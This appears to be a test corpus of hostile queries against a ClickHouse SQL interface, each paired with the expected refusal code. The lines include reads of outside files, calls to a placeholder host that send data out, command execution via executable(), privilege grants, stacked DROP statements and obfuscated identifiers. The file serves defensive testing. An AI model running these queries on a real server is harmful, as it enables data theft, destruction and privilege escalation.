# Hostile requests to the SQL interface, one a line: what must be refused, or must come to nothing.
# A heading names the kind, the user, and every answer that is right: HTTP status and ClickHouse's code.
#   <secret>  a file outside the data folder          <out>   a file that must not come to be
#   <host>    an address that must never be called
#   <lf> <nul> <nbsp> <bom> <wide>  line feed, NUL, no-break space, byte order mark, full-width blank

## Table functions that reach outside, as analyst: 403 497
SELECT * FROM arrowstream('<host>')
SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;BlobEndpoint=http://<host>/a;AccountName=a;AccountKey=Zg==', 'c', 'x.csv')
SELECT * FROM azureBlobStorageCluster('default', 'http://<host>/a', 'c', 'x.csv', 'a', 'Zg==')
SELECT * FROM cluster('default', 'system', 'one')
SELECT * FROM clusterAllReplicas('default', 'system', 'one')
SELECT * FROM cosn('http://<host>/b/x.csv', 'CSV', 's String')
SELECT * FROM deltaLake('http://<host>/b/t')
SELECT * FROM deltaLakeAzure('http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM deltaLakeAzureCluster('default', 'http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM deltaLakeCluster('default', 'http://<host>/b/t')
SELECT * FROM deltaLakeLocal('<secret>')
SELECT * FROM deltaLakeS3('http://<host>/b/t')
SELECT * FROM deltaLakeS3Cluster('default', 'http://<host>/b/t')
SELECT * FROM dictionary('any')
SELECT * FROM eval('SELECT 1')
SELECT * FROM executable('touch <out>', 'TSV', 's String')
SELECT * FROM file('<secret>', 'RawBLOB', 's String')
SELECT * FROM fileCluster('default', '<secret>', 'RawBLOB', 's String')
SELECT * FROM filesystem('/')
SELECT * FROM fuzzJSON('{}', 1)
SELECT * FROM fuzzQuery('SELECT 1', 500, 8956)
SELECT * FROM gcs('http://<host>/b/x.csv', 'CSV', 's String')
SELECT * FROM generateRandom('s String')
SELECT * FROM hdfs('hdfs://<host>/x', 'CSV', 's String')
SELECT * FROM hdfsCluster('default', 'hdfs://<host>/x', 'CSV', 's String')
SELECT * FROM hudi('http://<host>/b/t')
SELECT * FROM hudiCluster('default', 'http://<host>/b/t')
SELECT * FROM iceberg('http://<host>/b/t')
SELECT * FROM icebergAzure('http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM icebergAzureCluster('default', 'http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM icebergCluster('default', 'http://<host>/b/t')
SELECT * FROM icebergHDFS('hdfs://<host>/t')
SELECT * FROM icebergHDFSCluster('default', 'hdfs://<host>/t')
SELECT * FROM icebergLocal('<secret>')
SELECT * FROM icebergLocalCluster('default', '<secret>')
SELECT * FROM icebergS3('http://<host>/b/t')
SELECT * FROM icebergS3Cluster('default', 'http://<host>/b/t')
SELECT * FROM input('s String')
SELECT * FROM jdbc('jdbc:mysql://<host>/d', 't')
SELECT * FROM loop(analyst, sales)
SELECT * FROM merge('analyst', '.*')
SELECT * FROM mergeTreeAnalyzeIndexes(fenxiao, ledger)
SELECT * FROM mergeTreeAnalyzeIndexesUUID('00000000-0000-0000-0000-000000000000')
SELECT * FROM mergeTreeIndex('analyst', 'sales')
SELECT * FROM mergeTreeProjection('analyst', 'sales', 'p')
SELECT * FROM mergeTreeTextIndex('analyst', 'sales', 'i')
SELECT * FROM mongodb('<host>', 'd', 'c', 'u', 'p', 's String')
SELECT * FROM mysql('<host>', 'd', 't', 'u', 'p')
SELECT * FROM odbc('DSN=x', 'd', 't')
SELECT * FROM oss('http://<host>/b/x.csv', 'CSV', 's String')
SELECT * FROM paimon('http://<host>/b/t')
SELECT * FROM paimonAzure('http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM paimonAzureCluster('default', 'http://<host>/a', 'c', 't', 'a', 'Zg==')
SELECT * FROM paimonCluster('default', 'http://<host>/b/t')
SELECT * FROM paimonHDFS('hdfs://<host>/t')
SELECT * FROM paimonHDFSCluster('default', 'hdfs://<host>/t')
SELECT * FROM paimonLocal('<secret>')
SELECT * FROM paimonS3('http://<host>/b/t')
SELECT * FROM paimonS3Cluster('default', 'http://<host>/b/t')
SELECT * FROM postgresql('<host>', 'd', 't', 'u', 'p')
SELECT * FROM prometheusQuery('analyst', 'sales', 'up', now())
SELECT * FROM prometheusQueryRange('analyst', 'sales', 'up', now(), now(), 1)
SELECT * FROM redis('<host>', 'k', 'k String, v String')
SELECT * FROM remote('<host>', 'system', 'one')
SELECT * FROM remoteSecure('<host>', 'system', 'one')
SELECT * FROM s3('http://<host>/b/x.csv', NOSIGN, 'CSV', 's String')
SELECT * FROM s3Cluster('default', 'http://<host>/b/x.csv', 'CSV', 's String')
SELECT * FROM sqlite('<secret>', 't')
SELECT * FROM timeSeriesData('analyst', 'sales')
SELECT * FROM timeSeriesMetrics('analyst', 'sales')
SELECT * FROM timeSeriesSamples('analyst', 'sales')
SELECT * FROM timeSeriesSelector('analyst', 'sales', 'up', now(), now())
SELECT * FROM timeSeriesTags('analyst', 'sales')
SELECT * FROM url('http://<host>/x', 'RawBLOB', 's String')
SELECT * FROM urlCluster('default', 'http://<host>/x', 'RawBLOB', 's String')
SELECT * FROM viewExplain('EXPLAIN', '', (SELECT 1))
SELECT * FROM viewIfPermitted(SELECT 1 AS s ELSE null('s UInt8'))
SELECT * FROM ytsaurus('http://<host>', '//t', 'token', 's String')

## Functions that reach files, dictionaries, other tables or the process, as analyst: 403 497
SELECT filesystemAvailable('default')
SELECT filesystemCapacity(), filesystemUnreserved()
SELECT getMacro('shard')
SELECT getServerPort('http_port')
SELECT getServerSetting('max_server_memory_usage')
SELECT getClientHTTPHeader('Authorization')
SELECT showCertificate()
SELECT catboostEvaluate('<secret>', 1)
SELECT evalMLMethod(1, 2)
SELECT joinGetOrNull('fenxiao.ledger', 'line', 1)
SELECT dictGetString('any', 'line', 1)
SELECT dictGetHierarchy('any', 1)
SELECT dictGetKeys('any', 'line', 'x')
SELECT dictHas('any', 1)
SELECT dictIsIn('any', 1, 2)
SELECT __getScalar('x')
SELECT __actionName('x')
SELECT aiEmbed('x'), aiTranslate('x', 'en')
SELECT arrayMap(p -> file(p), ['<secret>'])
SELECT * REPLACE (file(s) AS s) FROM (SELECT '<secret>' AS s)
SELECT COLUMNS('s') APPLY file FROM (SELECT '<secret>' AS s)
SELECT 1 ORDER BY file('<secret>')
SELECT count() OVER (PARTITION BY file('<secret>'))
SELECT 1 LIMIT length(file('<secret>'))
WITH file('<secret>') AS s SELECT s
SELECT if(1, file('<secret>'), '')
SELECT {s:String} = file('<secret>')
EXPLAIN SYNTAX SELECT file('<secret>')
DESCRIBE (SELECT file('<secret>'))
DESCRIBE url('http://<host>/x')
EXPLAIN TABLE OVERRIDE mysql('<host>', 'd', 't', 'u', 'p') COLUMNS (s String)

## Tables over something outside, as analyst: 403 497
CREATE TABLE t (s String) ENGINE = AzureBlobStorage('http://<host>/a', 'c', 'x.csv', 'a', 'Zg==')
CREATE TABLE t (s String) ENGINE = AzureQueue('http://<host>/a', 'c', '*', 'CSV') SETTINGS mode = 'unordered'
CREATE TABLE t (s String) ENGINE = COSN('http://<host>/b/x.csv', 'CSV')
CREATE TABLE t (s String) ENGINE = DeltaLake('http://<host>/b/t')
CREATE TABLE t (s String) ENGINE = Dictionary(any)
CREATE TABLE t (s String) ENGINE = Distributed('default', 'system', 'one')
CREATE TABLE t (s String) ENGINE = EmbeddedRocksDB(0, '<out>') PRIMARY KEY s
CREATE TABLE t (s String) ENGINE = Executable('touch <out>', TSV)
CREATE TABLE t (s String) ENGINE = ExecutablePool('touch <out>', TSV)
CREATE TABLE t (s String) ENGINE = File(TSV, '<secret>')
CREATE TABLE t (s String) ENGINE = FileLog('<secret>', 'LineAsString')
CREATE TABLE t (s String) ENGINE = GCS('http://<host>/b/x.csv', 'CSV')
CREATE TABLE t (s String) ENGINE = HDFS('hdfs://<host>/x', 'CSV')
CREATE TABLE t (s String) ENGINE = Hudi('http://<host>/b/t')
CREATE TABLE t (s String) ENGINE = Iceberg('http://<host>/b/t')
CREATE TABLE t (s String) ENGINE = JDBC('jdbc:mysql://<host>/d', 'd', 't')
CREATE TABLE t (s String) ENGINE = Kafka('<host>', 't', 'g', 'LineAsString')
CREATE TABLE t (s String) ENGINE = KeeperMap('/t') PRIMARY KEY s
CREATE TABLE t (s String) ENGINE = MaterializedPostgreSQL('<host>', 'd', 't', 'u', 'p') PRIMARY KEY s
CREATE TABLE t (s String) ENGINE = Merge('fenxiao', '.*')
CREATE TABLE t (s String) ENGINE = MongoDB('<host>', 'd', 'c', 'u', 'p')
CREATE TABLE t (s String) ENGINE = MySQL('<host>', 'd', 't', 'u', 'p')
CREATE TABLE t (s String) ENGINE = NATS SETTINGS nats_url = '<host>', nats_subjects = 's', nats_format = 'CSV'
CREATE TABLE t (s String) ENGINE = ODBC('DSN=x', 'd', 't')
CREATE TABLE t (s String) ENGINE = PostgreSQL('<host>', 'd', 't', 'u', 'p')
CREATE TABLE t (s String) ENGINE = RabbitMQ SETTINGS rabbitmq_host_port = '<host>', rabbitmq_format = 'CSV'
CREATE TABLE t (s String) ENGINE = Redis('<host>') PRIMARY KEY s
CREATE TABLE t (s String) ENGINE = S3('http://<host>/b/x.csv', 'CSV')
CREATE TABLE t (s String) ENGINE = S3Queue('http://<host>/b/*', 'CSV') SETTINGS mode = 'unordered'
CREATE TABLE t (s String) ENGINE = SQLite('<out>', 't')
CREATE TABLE t (s String) ENGINE = URL('http://<host>/x', CSV)
CREATE TABLE t (s String) ENGINE = YTsaurus('http://<host>', '//t', 'token')
CREATE DATABASE d ENGINE = MySQL('<host>', 'd', 'u', 'p')
CREATE DATABASE d ENGINE = PostgreSQL('<host>', 'd', 'u', 'p')
CREATE DATABASE d ENGINE = SQLite('<out>')
CREATE DATABASE d ENGINE = Filesystem('/')
CREATE DATABASE d ENGINE = S3('http://<host>/b')

## Commands to the server, as analyst: 403 497
SYSTEM SHUTDOWN
SYSTEM KILL
SYSTEM SUSPEND FOR 60 SECOND
SYSTEM RELOAD CONFIG
SYSTEM RELOAD USERS
SYSTEM RELOAD DICTIONARIES
SYSTEM RELOAD FUNCTIONS
SYSTEM DROP DNS CACHE
SYSTEM DROP MARK CACHE
SYSTEM DROP UNCOMPRESSED CACHE
SYSTEM DROP QUERY CACHE
SYSTEM FLUSH LOGS
SYSTEM FLUSH ASYNC INSERT QUEUE
SYSTEM STOP MERGES
SYSTEM STOP TTL MERGES
SYSTEM STOP MOVES
SYSTEM STOP FETCHES
SYSTEM STOP VIEWS
SYSTEM STOP LISTEN HTTP
SYSTEM REFRESH VIEW analyst.sales
SYSTEM SYNC FILE CACHE
SYSTEM UNFREEZE WITH NAME 'x'
SYSTEM ENABLE FAILPOINT x
SYSTEM JEMALLOC PURGE
SYSTEM START THREAD FUZZER
KILL QUERY WHERE 1 SYNC
KILL MUTATION WHERE 1
SET max_memory_usage = 0
SET readonly = 2
SET ROLE ALL
SET param_x = '1'
USE system
GRANT ALL ON *.* TO CURRENT_USER
REVOKE ALL ON *.* FROM default
CREATE USER u IDENTIFIED BY 'p'
CREATE ROLE r
CREATE QUOTA q
CREATE ROW POLICY p ON analyst.sales USING 1
CREATE SETTINGS PROFILE p SETTINGS readonly = 0
CREATE FUNCTION f AS x -> file(x)
CREATE NAMED COLLECTION c AS url = 'http://<host>'
CREATE WORKLOAD w
CREATE DICTIONARY d (k UInt64) PRIMARY KEY k SOURCE(FILE(path '<secret>' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)
CREATE MATERIALIZED VIEW m ENGINE = MergeTree ORDER BY () AS SELECT 1
CREATE OR REPLACE VIEW analyst.sales AS SELECT 1
CREATE TEMPORARY TABLE t AS SELECT 1
ALTER TABLE sales ADD COLUMN x UInt8
ALTER USER default IDENTIFIED BY 'p'
ALTER DATABASE analyst MODIFY COMMENT 'x'
RENAME TABLE sales TO sold
EXCHANGE TABLES sales AND sales
DETACH TABLE sales PERMANENTLY
ATTACH TABLE t FROM '<secret>' (s String) ENGINE = TinyLog
DROP DATABASE analyst
UNDROP TABLE sales
TRUNCATE ALL TABLES FROM analyst
MOVE USER u TO local_directory
OPTIMIZE TABLE sales FINAL
UPDATE sales SET line = 'x' WHERE 1
DELETE FROM sales WHERE 1
INSERT INTO sales VALUES ('x')
INSERT INTO FUNCTION file('<out>', 'TSV', 's String') SELECT 'x'
INSERT INTO FUNCTION url('http://<host>/x', 'TSV', 's String') SELECT 'x'
BACKUP DATABASE analyst TO File('<out>')
RESTORE DATABASE analyst FROM File('<secret>')
BACKUP TABLE sales TO S3('http://<host>/b/x')
EXECUTE AS default SELECT 1
BEGIN TRANSACTION
COMMIT
WATCH sales
CHECK ALL TABLES
PREPARE p AS SELECT 1
COPY sales TO STDOUT
CALL f()
SHOW USERS
SHOW CURRENT ROLES
SHOW QUOTAS
SHOW CLUSTERS
SHOW SETTINGS LIKE '%'
SHOW MERGES
SHOW DICTIONARIES
SHOW CREATE USER default
SHOW PRIVILEGES

## Statements beside a statement, as analyst: 403 497, 400 62
SELECT 1 PARALLEL WITH KILL QUERY WHERE 1
SHOW TABLES PARALLEL WITH KILL QUERY WHERE 1
EXISTS TABLE sales PARALLEL WITH BACKUP TABLE sales TO File('<out>')
DESCRIBE sales parallel with SYSTEM SHUTDOWN
EXPLAIN SELECT 1 PARALLEL /* x */ WITH DROP VIEW sales
SELECT 1 PARALLEL -- x<lf>WITH CREATE TABLE t (a UInt8) ENGINE = Memory
SELECT 1; KILL QUERY WHERE 1
SELECT 1;SELECT 2;
SELECT 1;;
SELECT 1;<lf><lf>DROP VIEW sales
SELECT 1 -- ;<lf>; DROP VIEW sales
SELECT 1 # ;<lf>; DROP VIEW sales
SELECT ';' ; DROP VIEW sales
SELECT '\\'; DROP VIEW sales; --'
SELECT $$ ; $$; DROP VIEW sales
SELECT "a;b" FROM (SELECT 1 AS "a;b"); DROP VIEW sales
SELECT 1 FORMAT JSON; DROP VIEW sales
SELECT 1 <nul>; DROP VIEW sales

## Statements beside a statement, as analytics: 400 62
SELECT 1; DROP TABLE ledger
SELECT 1 /* ; */; DROP TABLE ledger
CREATE TABLE t (a UInt8) ENGINE = Memory; DROP TABLE ledger
INSERT INTO ledger SELECT 'x'; DROP TABLE ledger
SELECT '\\'; DROP TABLE ledger; --'
SELECT 1 FORMAT TSV; DROP TABLE ledger
SELECT 1;<lf><lf>DROP TABLE ledger
SELECT $a$ ; $a$; DROP TABLE ledger
SELECT 1 INTO OUTFILE '<out>'
SELECT 1 into/**/outfile '<out>' TRUNCATE FORMAT TSV
WITH 1 AS a SELECT a INTO OUTFILE '<out>' AND STDOUT
(SELECT 1) UNION ALL (SELECT 2) INTO OUTFILE '<out>' COMPRESSION 'gzip'
SHOW TABLES INTO OUTFILE '<out>'
INSERT INTO ledger FROM INFILE '<secret>' FORMAT LineAsString
INSERT INTO ledger (line) FROM/**/INFILE '<secret>' COMPRESSION 'none' FORMAT LineAsString

## Settings inside the statement, as analyst: 403 497
SELECT 1 SETTINGS readonly = 0
SELECT * FROM (SELECT 1 SETTINGS readonly = 0)
SELECT * FROM (SELECT 1 SETTINGS max_memory_usage = 0)
SELECT * FROM (SELECT name FROM system.tables SETTINGS additional_table_filters = {})
SELECT (SELECT 1 SETTINGS max_execution_time = 0)
SELECT 1 IN (SELECT 1 SETTINGS max_result_rows = 0)
WITH x AS (SELECT 1 SETTINGS allow_introspection_functions = 1) SELECT * FROM x
(SELECT 1 SETTINGS max_threads = 64) UNION ALL SELECT 2
SELECT * FROM view(SELECT 1 SETTINGS allow_ddl = 1)
SELECT * FROM (SELECT 1 AS a) AS x JOIN (SELECT 1 AS a SETTINGS join_algorithm = 'hash') AS y USING a
FROM sales SELECT line SETTINGS max_threads = 2
SELECT 1 SETTINGS allow_ddl
SELECT * FROM (SELECT 1 settings/**/readonly/**/=/**/0)
SELECT * FROM (SELECT 1 SETTINGS -- x<lf>readonly = 0)
SELECT * FROM (SELECT 1 SETTINGS `readonly` = 0)
SELECT * FROM (SELECT 1 SETTINGS "readonly" = 0)
SELECT * FROM (SELECT 1 SETTINGS profile = 'default')
EXPLAIN SELECT 1 SETTINGS log_queries = 0
SELECT 1 FORMAT CSV SETTINGS format_csv_delimiter = ';'

## Results into files, as analyst: 403 497
SELECT 1 INTO OUTFILE '<out>'
SELECT 1 INTO OUTFILE '<out>' APPEND
SELECT 1 INTO OUTFILE '<out>' TRUNCATE COMPRESSION 'zstd' LEVEL 3
SELECT 1 INTO OUTFILE '<out>' AND STDOUT FORMAT TSV
SELECT 1 INTO<lf>OUTFILE '<out>'
SELECT 1 INTO -- x<lf>OUTFILE '<out>'
SELECT 1 InTo # x<lf>OuTfIlE '<out>'
SELECT 1 INTO /* /* */ */ OUTFILE '<out>'
SELECT 1 INTO OUTFILE $$<out>$$
(SELECT 1) UNION ALL (SELECT 2) INTO OUTFILE '<out>'
EXPLAIN SELECT 1 INTO OUTFILE '<out>'
EXPLAIN AST SELECT 1 INTO OUTFILE '<out>'
DESCRIBE sales INTO OUTFILE '<out>'
SHOW CREATE TABLE sales INTO OUTFILE '<out>'

## Other databases, hidden, as analyst: 403 497
SELECT * FROM fenxiao.ledger
SELECT * FROM sales UNION ALL SELECT * FROM fenxiao.ledger
SELECT * FROM fenxiao<lf>.<lf>ledger
SELECT * FROM fenxiao<nbsp>.ledger
SELECT * FROM fenxiao<wide>.ledger
<bom>SELECT * FROM fenxiao.ledger
SELECT * FROM fenxiao<nul>.ledger
SELECT '<nul>', line FROM fenxiao.ledger
SELECT 1 /* <nul> */, line FROM fenxiao.ledger
SELECT /* ' */ line FROM fenxiao.ledger -- '
SELECT '/*', line FROM fenxiao.ledger -- */
SELECT '--', line FROM fenxiao.ledger
SELECT 'it''s', line FROM fenxiao.ledger
SELECT '\'', line FROM fenxiao.ledger --'
SELECT $a$ $b$ $a$, line FROM fenxiao.ledger -- $b$
SELECT $$'$$, line FROM fenxiao.ledger --'
SELECT b'01', x'27', line FROM fenxiao.ledger
SELECT 1 # x<lf>, line FROM fenxiao.ledger
SELECT 1 #!x<lf>, line FROM fenxiao.ledger
SELECT line FROM `fenxiao`.`ledger`
SELECT line FROM "fen\x78iao".ledger
SELECT fenxiao.ledger.line FROM fenxiao.ledger
SELECT * FROM sales WHERE line IN (fenxiao.ledger)
SELECT * FROM sales ANY LEFT JOIN fenxiao.ledger USING line
SELECT * FROM {d:Identifier}.ledger
SELECT * FROM {d:`Identifier`}.ledger
SELECT * FROM default.x
SELECT * FROM system.processes
SELECT * FROM system.server_settings
SELECT * FROM system.stack_trace
SELECT * FROM system.completions
SELECT * FROM system.parts
SELECT * FROM system.named_collections
SELECT * FROM system.query_cache
SELECT * FROM system.disks
SELECT * FROM information_schema.columns
SHOW COLUMNS FROM ledger FROM fenxiao
SHOW CREATE fenxiao.ledger

## Tables that are files, as analyst: 404 60
SELECT * FROM '<secret>'
SELECT * FROM `<secret>`
SELECT * FROM "file://<secret>"
SELECT * FROM `http://<host>/x.csv`
SELECT * FROM `s3://b/x.csv`
